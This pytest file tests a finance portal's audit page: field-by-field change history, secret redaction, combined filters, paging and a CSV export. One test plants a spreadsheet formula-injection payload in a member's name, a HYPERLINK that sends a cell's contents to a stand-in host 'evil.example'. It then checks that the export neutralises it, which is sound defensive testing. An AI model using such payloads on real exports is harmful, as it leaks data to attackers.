"""The portal's Audit page as a finance user reads it: who changed what and when, each
change field by field (before → after, secrets only ever "changed"), filters by user,
object and date range that combine and page, and a CSV export of the filtered entries."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import UTC, datetime, timedelta

from fastapi.testclient import TestClient

from ledgerlink.identity.roles import Role
from ledgerlink.store import audit
from ledgerlink.store.db import Database
from ledgerlink.web.portal.audit_pages import PAGE
from tests.support.web import make_user, sign_in

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _bearer(db: Database, email: str, role: Role = Role.ADMIN) -> dict[str, str]:
    return {"Authorization": f"Bearer {make_user(db, role, email).token}"}


def _member(client: TestClient, headers: dict[str, str], number: str, **fields: str) -> dict:  # type: ignore[type-arg]
    body = {
        "member_number": number,
        "first_name": "Jane",
        "last_name": "Doe",
        "email": f"{number.lower()}@example.org",
        "membership_level": "standard",
        "country": "US",
        **fields,
    }
    created = client.post("/api/v1/members", json=body, headers=headers)
    assert created.status_code == 201, created.text
    return body


def _level(client: TestClient, headers: dict[str, str]) -> None:
    response = client.post(
        "/api/v1/membership-levels",
        json={"code": "standard", "name": "Standard", "annual_fee": "120.00", "currency": "USD"},
        headers=headers,
    )
    assert response.status_code == 201, response.text


def _entries(page: str) -> dict[int, str]:
    """The page's audit rows by entry number, as text with the markup kept."""
    rows = re.findall(r'<tr data-testid="audit-entry" data-seq="(\d+)">(.*?)</tr>', page, re.S)
    return {int(seq): body for seq, body in rows}


def _changes(row: str) -> list[str]:
    """A row's changes as a person reads them: "Field: before → after"."""
    items = re.findall(r'<li data-testid="audit-change">(.*?)</li>', row, re.S)
    return [html.unescape(re.sub(r"<[^>]+>", "", item)).strip() for item in items]


def _as_viewer(client: TestClient, db: Database) -> None:
    sign_in(client, make_user(db, Role.VIEWER, "reader@example.org").email)


def test_a_member_edit_reads_field_by_field_before_and_after(client, db: Database) -> None:  # type: ignore[no-untyped-def]
    headers = _bearer(db, "alice@example.org")
    _level(client, headers)
    body = _member(client, headers, "M7")
    changed = client.put(
        "/api/v1/members/M7",
        json={**body, "email": "jane.doe@example.org", "status": "suspended"},
        headers=headers,
    )
    assert changed.status_code == 200, changed.text
    _as_viewer(client, db)

    page = client.get("/audit", params={"entity_type": "member", "entity_id": "M7"})

    assert page.status_code == 200
    rows = list(_entries(page.text).values())
    assert len(rows) == 2  # the creation and the edit, newest first
    edit = rows[0]
    assert "Member updated" in edit
    assert "alice@example.org" in edit
    assert '<a href="/members/M7">M7</a>' in edit
    assert "Jane Doe" in edit
    assert _changes(edit) == [
        "Email: m7@example.org → jane.doe@example.org",
        "Status: active → suspended",
    ]
    assert "{" not in edit  # no JSON for people to read


def test_a_connection_secret_change_reads_changed_and_never_shows_the_secret(
    client, db: Database
) -> None:  # type: ignore[no-untyped-def]
    headers = _bearer(db, "alice@example.org")
    cid = client.post(
        "/api/v1/connections",
        headers=headers,
        json={"kind": "sage500", "name": "ERP", "settings": {"company_id": "SOA"}},
    ).json()["id"]
    first = client.patch(
        f"/api/v1/connections/{cid}",
        headers=headers,
        json={"secrets": {"database_url": "mssql+pymssql://u:first-pw@h/db"}},
    )
    assert first.status_code == 200, first.text
    second = client.patch(
        f"/api/v1/connections/{cid}",
        headers=headers,
        json={
            "settings": {"company_id": "XYZ"},
            "secrets": {"database_url": "mssql+pymssql://u:second-pw@h/db"},
        },
    )
    assert second.status_code == 200, second.text
    _as_viewer(client, db)

    page = client.get("/audit", params={"entity_type": "connection", "entity_id": str(cid)})

    rows = list(_entries(page.text).values())
    newest = _changes(rows[0])
    assert "Settings: Company id: SOA → XYZ" in newest
    assert "Secrets: Database url: changed (value not shown)" in newest  # replaced, not new
    assert "Secrets: Database url: set" in _changes(rows[1])
    for secret in ("first-pw", "second-pw", audit.REDACTED, "••••"):
        assert secret not in page.text
    export = client.get("/audit/export.csv", params={"entity_type": "connection"})
    assert "pw@" not in export.text
    assert "••••" not in export.text
    assert "changed" in export.text


def test_filters_by_user_object_and_dates_combine(client, db: Database) -> None:  # type: ignore[no-untyped-def]
    alice = _bearer(db, "alice@example.org")
    bob = _bearer(db, "bob@example.org")
    _level(client, alice)
    m1 = _member(client, alice, "M1")
    _member(client, bob, "M2")
    assert client.put("/api/v1/members/M1", json={**m1, "last_name": "Roe"}, headers=bob)
    _as_viewer(client, db)
    today = datetime.now(UTC).date()

    def seen(**params: str) -> list[str]:
        page = client.get("/audit", params=params)
        assert page.status_code == 200, page.text
        return [re.sub(r"<[^>]+>", " ", row) for row in _entries(page.text).values()]

    by_bob_on_m1 = seen(actor="BOB@example.org", entity_type="member", entity_id="M1")
    assert len(by_bob_on_m1) == 1
    assert "Member updated" in by_bob_on_m1[0]
    by_alice_on_members = seen(actor="alice@example.org", entity_type="member")
    assert len(by_alice_on_members) == 1
    assert "M1" in by_alice_on_members[0]
    assert len(seen(entity_type="member", since=today.isoformat(), until=today.isoformat())) == 3
    tomorrow = (today + timedelta(days=1)).isoformat()
    assert seen(entity_type="member", since=tomorrow) == []
    yesterday = (today - timedelta(days=1)).isoformat()
    assert seen(actor="bob@example.org", until=yesterday) == []


def test_pages_of_a_filter_keep_the_filter(client, db: Database) -> None:  # type: ignore[no-untyped-def]
    with db.transaction() as session:
        for n in range(PAGE + 5):
            audit.record(
                session,
                actor="carol@example.org" if n % 2 else "dave@example.org",
                action="member.updated",
                entity_type="member",
                entity_id="M9",
                before={"city": f"Town {n}"},
                after={"city": f"Town {n + 1}"},
            )
    _as_viewer(client, db)
    first = client.get("/audit", params={"actor": "dave@example.org"})
    assert len(_entries(first.text)) == (PAGE + 5 + 1) // 2  # 28: one page
    everyone = client.get("/audit", params={"entity_id": "M9", "entity_type": "member"})
    assert len(_entries(everyone.text)) == PAGE
    older = re.search(r'<a href="/audit\?([^"]+)">Older</a>', everyone.text)
    assert older, "a full page links to the older entries"
    query = html.unescape(older.group(1))
    assert "entity_id=M9" in query
    assert "entity_type=member" in query
    second = client.get(f"/audit?{query}")
    rows = _entries(second.text)
    assert len(rows) == 5
    assert all("M9" in row for row in rows.values())
    newer = re.search(r'<a href="/audit\?([^"]+)">Newer</a>', second.text)
    assert newer
    assert "entity_id=M9" in html.unescape(newer.group(1))
    back = client.get(f"/audit?{html.unescape(newer.group(1))}")
    assert set(_entries(back.text)) == set(_entries(everyone.text))


def test_bad_filter_input_is_named_beside_the_field_and_kept(client, db: Database) -> None:  # type: ignore[no-untyped-def]
    _as_viewer(client, db)

    bad_date = client.get("/audit", params={"since": "2026-13-45", "actor": "x@example.org"})

    assert bad_date.status_code == 422
    error = re.search(r'data-testid="error-since">(.*?)</p>', bad_date.text)
    assert error
    assert "YYYY-MM-DD" in error.group(1)
    assert 'value="2026-13-45"' in bad_date.text
    assert 'value="x@example.org"' in bad_date.text
    assert 'aria-describedby="audit-since-error"' in bad_date.text

    reversed_range = client.get("/audit", params={"since": "2026-12-07", "until": "2026-12-01"})
    assert reversed_range.status_code == 422
    assert 'data-testid="error-until">is before the start date 2026-12-07' in reversed_range.text

    export = client.get("/audit/export.csv", params={"until": "yesterday"})
    assert export.status_code == 422
    assert 'data-testid="error-until"' in export.text

    paging = client.get("/audit", params={"before": "-1"})
    assert paging.status_code == 422
    assert 'data-testid="error-before"' in paging.text


def test_the_export_is_the_filtered_view_and_starts_no_formula(client, db: Database) -> None:  # type: ignore[no-untyped-def]
    headers = _bearer(db, "alice@example.org")
    _level(client, headers)
    body = _member(client, headers, "M5", first_name='=HYPERLINK("http://evil.example/?"&A1)')
    client.put("/api/v1/members/M5", json={**body, "last_name": "-2+3"}, headers=headers)
    _member(client, headers, "M6")
    _as_viewer(client, db)

    exported = client.get("/audit/export.csv", params={"entity_type": "member", "entity_id": "M5"})

    assert exported.status_code == 200
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert {row["Object ID"] for row in rows} == {"M5"}
    assert {row["What"] for row in rows} == {"Member created", "Member updated"}
    edit = [row for row in rows if row["What"] == "Member updated"]
    assert [(r["Field"], r["Before"], r["After"]) for r in edit] == [("Last name", "Doe", "'-2+3")]
    assert all(row["Who"] == "alice@example.org" for row in rows)
    cells = [cell for line in csv.reader(io.StringIO(exported.text)) for cell in line]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


def test_the_chain_check_stays_beside_a_filtered_view(client, db: Database) -> None:  # type: ignore[no-untyped-def]
    with db.transaction() as session:
        audit.record(
            session,
            actor="erin@example.org",
            action="member.updated",
            entity_type="member",
            entity_id="M3",
            before={"city": "Leeds"},
            after={"city": "York"},
        )
    _as_viewer(client, db)  # adds a "user created" entry the filter leaves out

    page = client.get("/audit", params={"verify": "1", "entity_type": "member"})

    assert page.status_code == 200
    assert 'data-testid="verify-result"' in page.text
    assert "Verification against the signed checkpoints" in page.text
    rows = list(_entries(page.text).values())
    assert len(rows) == 1
    assert _changes(rows[0]) == ["City: Leeds → York"]


def test_a_role_change_reads_as_the_user_and_its_role_before_and_after(
    client, db: Database
) -> None:  # type: ignore[no-untyped-def]
    headers = _bearer(db, "alice@example.org")
    created = client.post(
        "/api/v1/users",
        headers=headers,
        json={
            "email": "frank@example.org",
            "password": "a long enough passphrase",
            "role": "viewer",
        },
    )
    assert created.status_code == 201, created.text
    user_id = created.json()["id"]
    changed = client.patch(f"/api/v1/users/{user_id}", headers=headers, json={"role": "operator"})
    assert changed.status_code == 200, changed.text
    _as_viewer(client, db)

    page = client.get("/audit", params={"entity_type": "user", "entity_id": str(user_id)})

    rows = list(_entries(page.text).values())
    assert "User updated" in rows[0]
    assert "frank@example.org" in rows[0]
    assert _changes(rows[0]) == ["Role: viewer → operator"]
    assert "a long enough passphrase" not in page.text
